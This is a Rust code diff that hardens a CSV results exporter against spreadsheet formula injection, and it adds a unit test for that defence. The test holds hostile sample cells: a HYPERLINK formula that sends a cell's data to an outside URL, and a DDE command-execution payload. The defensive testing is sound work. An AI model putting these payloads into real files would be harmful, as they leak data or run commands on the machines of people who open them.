@@ -21,6 +21,8 @@ pub fn results_csv(preview: &Preview, state: &RunState) -> String {
         let (result, target, message) = match state.results.get(n).cloned().flatten() {
             Some(RecordResult::Created(id)) => ("Created", id.to_string(), String::new()),
             Some(RecordResult::Updated(id)) => ("Updated", id.to_string(), String::new()),
+            Some(RecordResult::Deleted(id)) => ("Deleted", id.to_string(), String::new()),
+            Some(RecordResult::ChangedInTarget(m)) => ("Not written", target_of(row), m),
             Some(RecordResult::Failed(m)) => ("Failed", target_of(row), m),
             Some(RecordResult::SourceDeleted) => (
                 "Not written",
@@ -30,17 +32,31 @@ pub fn results_csv(preview: &Preview, state: &RunState) -> String {
             None if row.outcome.writes() => ("Not written", target_of(row), String::new()),
             None => ("Skipped", target_of(row), row.problems.join(" ")),
         };
-        let _ = out.write_record([
-            row.outcome.label(),
-            result,
-            &row.name,
-            row.source_id.as_str(),
-            &target,
-            row.key.as_deref().unwrap_or_default(),
-            &message,
-        ]);
+        let _ = out.write_record(
+            [
+                row.outcome.label(),
+                result,
+                &row.name,
+                row.source_id.as_str(),
+                &target,
+                row.key.as_deref().unwrap_or_default(),
+                &message,
+            ]
+            .map(inert),
+        );
     }
     String::from_utf8(out.into_inner().unwrap_or_default()).unwrap_or_default()
+}
+
+/// A cell a spreadsheet will not run: text starting with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a leading `'`, as OWASP's CSV injection advice says (an account named
+/// `=HYPERLINK(…)` would otherwise be a live formula when the file is opened).
+fn inert(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
 }
 
 fn target_of(row: &crate::preview::Row) -> String {
@@ -63,6 +79,7 @@ mod tests {
             name: name.into(),
             key: Some("001000000000001AAA".into()),
             target_id: None,
+            target_stamp: None,
             outcome,
             changes: vec![],
             problems: vec!["Code is too long".into()],
@@ -100,5 +117,44 @@ mod tests {
         assert_eq!(&rows[0][4], "001T00000000001IAA");
         assert_eq!(&rows[1][1], "Skipped");
         assert_eq!(&rows[1][6], "Code is too long");
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_written_inert() {
+        let formula = r#"=HYPERLINK("https://example.com/?"&C2,"Open")"#;
+        let mut blocked = row("-2+3", Outcome::Blocked);
+        blocked.problems = vec!["@SUM(A1) is not allowed".into()];
+        let preview = Preview {
+            rows: vec![
+                row(formula, Outcome::Insert),
+                blocked,
+                row("\tTabbed", Outcome::Insert),
+                row("+1 Plus", Outcome::Insert),
+            ],
+            missing_parents: vec![],
+            watermark: None,
+        };
+        let state = RunState {
+            batches: vec![],
+            results: vec![
+                Some(RecordResult::Failed("=cmd|' /C calc'!A0".into())),
+                None,
+                None,
+                None,
+            ],
+            calls: 1,
+        };
+        let text = results_csv(&preview, &state);
+        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .collect();
+        assert_eq!(&rows[0][2], format!("'{formula}"));
+        assert_eq!(&rows[0][6], "'=cmd|' /C calc'!A0", "the org's words too");
+        assert_eq!(&rows[1][2], "'-2+3");
+        assert_eq!(&rows[1][6], "'@SUM(A1) is not allowed");
+        assert_eq!(&rows[2][2], "'\tTabbed");
+        assert_eq!(&rows[3][2], "'+1 Plus");
+        assert_eq!(&rows[0][3], "001000000000001AAA", "plain cells untouched");
     }
 }
